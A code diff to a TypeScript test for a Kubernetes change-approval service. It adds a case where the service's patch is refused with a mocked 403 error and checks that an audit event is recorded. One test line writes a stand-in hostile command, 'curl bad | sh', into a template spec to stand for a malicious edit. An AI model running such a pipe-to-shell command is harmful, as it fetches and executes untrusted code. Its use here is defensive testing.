@@ -4,7 +4,9 @@ import { useTestDatabase } from '@/lib/db/testing'
 import { isObject, valueAt } from '@/lib/domain/changes'
 import type { JsonObject } from '@/lib/domain/json'
 import { HELD } from '@/lib/domain/latch/names'
+import { KubeError } from '@/lib/kubernetes/types'
 import { approveChange } from '@/lib/services/changes/approve-change'
+import { kubeClientFor } from '@/lib/services/clusters/connection'
 import { as, latchedCluster } from '@/testenv/deciding'
 import { heldChange, MD } from '@/testenv/held'
 import { planningContext } from '@/testenv/planning'
@@ -14,11 +16,12 @@ useTestDatabase()
 const at = latchedCluster()
 const TEMPLATES = { group: 'bootstrap.cluster.x-k8s.io', version: 'v1beta2', plural: 'kubeadmconfigtemplates' }
 
-test.each(['what differs', 'what does not', 'nothing: the old one is gone'])(
+test.each(['what differs', 'what does not', 'what differs, and its hold is refused', 'nothing: the old one is gone'])(
   'let go, and its template edited since, it is held again and waits for somebody (in %s)',
   async (where) => {
     const gone = where.startsWith('nothing')
-    const inWhatDiffers = gone || where === 'what differs'
+    const refused = where.endsWith('refused')
+    const inWhatDiffers = gone || where.startsWith('what differs')
     const held = await heldChange(at.cluster, at.clusterId, 'MachineDeployment', 8)
     await db().group.update({ where: { id: held.change.groupId }, data: { governed: true } })
     const { namespace, name, kind } = held
@@ -48,7 +51,17 @@ test.each(['what differs', 'what does not', 'nothing: the old one is gone'])(
     const edited = inWhatDiffers ? 'next' : String(ref.name)
     if (gone) await admin.delete(TEMPLATES, String(ref.name), namespace)
     else await admin.patch(TEMPLATES, edited, namespace, 'merge', { spec: says('curl bad | sh') })
-    for (let look = 0; look < 4; look++) await planned()
+    const client = await kubeClientFor(at.clusterId)
+    const { patch } = client
+    const no = new KubeError(403, { kind: 'Status', code: 403, message: 'no' }, 'PATCH')
+    if (refused) client.patch = () => Promise.reject(no)
+    for (let look = 0; look < 4; look++) await planned().finally(() => look === 3 && (client.patch = patch))
+    const { id } = await open()
+    // It goes unapproved, and that is on record: somebody is told, and it is tried again.
+    if (refused) {
+      expect(await db().auditEvent.count({ where: { targetId: id, action: 'change.not-held' } })).toBe(1)
+      return
+    }
     const { annotations = {} } = (await held.read()).metadata
     expect([HELD in annotations, (await open()).state]).toEqual(gone ? [false, 'running'] : [true, 'waiting'])
   },
